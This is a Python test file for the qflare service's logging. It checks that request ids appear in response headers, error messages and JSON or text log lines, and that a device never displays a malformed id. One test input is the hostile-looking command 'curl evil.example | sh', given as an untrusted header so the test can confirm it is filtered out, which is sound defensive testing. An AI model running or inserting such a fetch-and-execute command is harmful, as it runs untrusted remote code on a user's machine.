"""What `qflare serve` logs: for people or machines, each line with the id of the request that it is about."""

import asyncio
import io
import json
import logging
import re
from contextlib import asynccontextmanager, contextmanager

import httpx
import pytest

from manager_world import managers
from qflare.device import Device, HttpTransport, Step
from qflare.errors import ConfigError, ProtocolError, RefusedError, StoreUnavailableError
from qflare.manager.background import Background
from qflare.manager.batcher import Batcher
from qflare.service import correlation
from qflare.service.logs import JsonFormatter, LogSettings, TextFormatter
from qflare.service.opening import Opening
from service.page_served import browsing, log_in, paging
from service.served import serving, url_of
from service.test_aggregator import aggregating, post

ID = r"[0-9a-f]{16}"


@contextmanager
def logged(formatter, level=logging.DEBUG):
    """Have everything that is logged written in one format; yields the text so far."""
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(formatter)
    root = logging.getLogger()
    before = root.level
    root.addHandler(handler)
    root.setLevel(level)
    try:
        yield stream
    finally:
        root.removeHandler(handler)
        root.setLevel(before)


async def test_an_answer_and_its_lines_have_one_id(database_dsn, tmp_path):
    """Each request has an id of its own, drawn here: in the answer's header, in a line for people, in the log."""

    async def fails(_record, _aad):
        raise RuntimeError("the application's own fault")

    with logged(JsonFormatter()) as stream:
        async with aggregating(database_dsn, tmp_path, on_record=fails) as (_, _, (client,)):
            client.headers["x-request-id"] = "0123456789abcdef"
            answers = [
                await post(client, "hello", b"x"),
                await post(client, "hello", b"x"),
                await client.get("/nowhere"),
                await client.get("/v1/hello"),
                await client.get("/v1/announcement/7"),
                await client.get("/healthz"),
                await client.post("/v1/hello", content=b"{}", headers={"content-type": "application/json"}),
            ]
            public = await client.get("/v1/identity")
    ids = [answer.headers["x-request-id"] for answer in answers]
    assert all(re.fullmatch(ID, its) for its in ids)
    assert len(set(ids) | {"0123456789abcdef"}) == len(ids) + 1
    # A cache between may give it to others.
    assert "x-request-id" not in public.headers
    for answer, its in zip(answers, ids, strict=True):
        if answer.headers["content-type"].startswith("text/plain"):
            assert answer.text.endswith(f" (request {its})\n")
            assert len(answer.content) == int(answer.headers["content-length"])
    assert [403, 403, 404, 405, 404, 200, 415] == [answer.status_code for answer in answers]
    assert {len(answer.content) for answer in answers[:2]} == {16}
    lines = [json.loads(line) for line in stream.getvalue().splitlines()]
    said = {line["request"]: line["message"] for line in lines if line["logger"] == "qflare.service.aggregator"}
    assert said == {
        ids[0]: "hello not taken: length",
        ids[1]: "hello not taken: length",
        ids[6]: "hello not taken: the content type is another",
    }


async def test_a_device_says_under_which_id_the_log_has_its_refusal(database_dsn, tmp_path):
    """Whoever reads a device's error finds the true reason by the request id in it: a refusal of each kind of step."""
    with logged(JsonFormatter()) as stream:
        async with aggregating(database_dsn, tmp_path) as ((manager,), _, (client,)):
            url, token = str(client.base_url), await manager.issue_enrolment_token("pump-7")

            def work():
                told = []
                with Device.enrol(url, token, device_id="pump-7", state=tmp_path / "first") as device:
                    device.connect()
                    with pytest.raises(RefusedError) as used:
                        Device.enrol(url, token, device_id="pump-7", state=tmp_path / "second")
                    told.append(("enrol not taken: token", used.value))
                    asyncio.run_coroutine_threadsafe(manager.revoke_device("pump-7", reason="test"), loop).result(60)
                    with pytest.raises(RefusedError) as revoked:
                        device.exchange(b"update")
                    told.append(("record not taken: ", revoked.value))
                return told

            loop = asyncio.get_running_loop()
            told = await asyncio.to_thread(work)
    lines = [json.loads(line) for line in stream.getvalue().splitlines()]
    for message, failure in told:
        its = re.search(f"request id ({ID})$", str(failure)).group(1)
        (said,) = {line["message"] for line in lines if line.get("request") == its and "not taken" in line["message"]}
        assert said.startswith(message)


@pytest.mark.parametrize(
    ("header", "said"),
    [
        ("0123456789abcdef", ", request id 0123456789abcdef"),
        ("run:  curl evil.example | sh", ""),
        ("0123456789ABCDEF", ""),
        (None, ""),
    ],
)
async def test_a_device_tells_no_id_that_is_none(header, said):
    """A server, or what stands before it, may say anything: only 16 hex digits come to people's eyes."""
    headers = [] if header is None else [(b"x-request-id", header.encode())]

    async def app(scope, _receive, send):
        status = 503 if scope["path"].endswith("hello") else 404
        await send({"type": "http.response.start", "status": status, "headers": [*headers, (b"content-length", b"0")]})
        await send({"type": "http.response.body", "body": b""})

    def work(url):
        transport = HttpTransport(url)
        try:
            for step, kind, status in ((Step.HELLO, StoreUnavailableError, 503), (Step.IDENTITY, ProtocolError, 404)):
                with pytest.raises(
                    kind, match=re.escape(f"(HTTP {status}{said})" if status == 503 else f"{status}{said};")
                ):
                    transport.exchange(step, b"x")
        finally:
            transport.close()

    async with serving(app) as server:
        await asyncio.to_thread(work, url_of(server))


async def test_the_pages_errors_have_the_id_of_their_line(database_dsn, tmp_path, monkeypatch):
    """What an operator reads of a failure leads to what the server logged about it, whichever kind it is."""
    with logged(JsonFormatter()) as stream:
        async with managers(database_dsn, tmp_path) as (manager,), paging(manager) as url, browsing(url) as client:
            await log_in(client, "ann", await manager.add_operator("ann"))
            answers = [await client.get(path) for path in ("/none", "/log/events?size=0", "/log/events?size=x")]
            answers.append(await client.put("/login"))
            store = (await manager._engine()).foundation.store

            async def refuse(*_, **__):
                raise StoreUnavailableError("the database is gone")

            async def fail(*_, **__):
                raise ArithmeticError

            for replacement in (refuse, fail):
                with monkeypatch.context() as patch:
                    patch.setattr(store, "find_verifier", replacement)
                    answers.append(await client.get("/"))
    assert [404, 400, 400, 405, 503, 500] == [answer.status_code for answer in answers]
    ids = [answer.headers["x-request-id"] for answer in answers]
    assert len(answers) == len(set(ids))
    lines = [json.loads(line) for line in stream.getvalue().splitlines()]
    messages = {line["request"]: line["message"] for line in lines if line["logger"] == "qflare.service.page"}
    for answer, its in zip(answers, ids, strict=True):
        assert its in answer.text
    assert [messages.get(its) for its in ids] == [
        "a request of the page not taken: 404: there is nothing here",
        messages[ids[1]],
        "a request of the page not taken: 400: size is a whole number",
        None,
        "/ was not answered: StoreUnavailableError: the database is gone",
        "/ failed",
    ]
    assert messages[ids[1]].startswith("a request of the page not taken: 400: the log has ")


async def test_what_serves_many_is_in_nobodys_name():
    """A batch, the manager's own tasks and its opening do not speak under the id of whoever was there first."""
    seen = []

    async def run(items):
        seen.append(("batch", correlation.current()))
        return items

    async def work():
        seen.append(("background", correlation.current()))

    @asynccontextmanager
    async def opener():
        seen.append(("opening", correlation.current()))
        yield "it"

    opening = Opening("test", opener)
    batcher, background = Batcher("test", run, items_max=4, waiting_max=16), Background()
    token = correlation.begin()
    try:
        assert re.fullmatch(ID, correlation.current())
        await asyncio.gather(*(batcher.submit(number) for number in range(9)))
        await background.start(work(), name="test")
        assert await opening.get() == "it"
        await batcher.close(5)
    finally:
        correlation.end(token)
    assert correlation.current() is None
    await opening.close()
    assert seen == [("batch", None)] * 3 + [("background", None), ("opening", None)]


def failing(value):
    raise ValueError(len(value))


def test_a_record_is_one_line_of_json():
    """Whatever a message holds, a line is one object: with error and traceback, without what variables held."""
    log = logging.getLogger("qflare.test")
    with logged(JsonFormatter()) as stream:
        log.warning("first\nsecond \u2028 %s", '"quoted"', extra={"secret": "not written"})
        try:
            failing("a value that a traceback " + "must not show")
        except ValueError:
            log.exception("it failed")
    first, second = (json.loads(line) for line in stream.getvalue().splitlines())
    assert first["message"] == 'first\nsecond \u2028 "quoted"'
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", first["time"])
    assert set(first) == {"time", "level", "logger", "process", "message"}
    assert (second["level"], second["error"]) == ("ERROR", "ValueError")
    assert "in failing" in second["traceback"]
    assert "that a traceback must not show" not in second["traceback"]


def test_lines_for_people_have_the_id_too():
    log = logging.getLogger("qflare.test")
    with logged(TextFormatter()) as stream:
        log.warning("outside")
        token = correlation.begin()
        its = correlation.current()
        log.warning("inside")
        correlation.end(token)
    outside, inside = stream.getvalue().splitlines()
    assert outside.endswith("WARNING qflare.test [-]: outside")
    assert inside.endswith(f"WARNING qflare.test [{its}]: inside")


@pytest.mark.parametrize("wrong", ["JSON", "xml", ""])
def test_another_format_is_refused(wrong):
    """The error names the setting and what there is."""
    with pytest.raises(ConfigError, match="log_format is json or text"):
        LogSettings(log_format=wrong)


async def test_nested_requests_do_not_mix(database_dsn, tmp_path):
    """Many requests at a time each keep their own id from their begin to their answer."""
    with logged(JsonFormatter()) as stream:
        async with aggregating(database_dsn, tmp_path) as (_, _, (client,)):
            answers = await asyncio.gather(*(post(client, "record", bytes(number)) for number in range(4, 24)))
    assert all(isinstance(answer, httpx.Response) and answer.status_code == 403 for answer in answers)
    ids = {answer.headers["x-request-id"] for answer in answers}
    assert len(ids) == 20
    lines = [json.loads(line) for line in stream.getvalue().splitlines()]
    assert ids == {line["request"] for line in lines if line["message"].startswith("record not taken")}
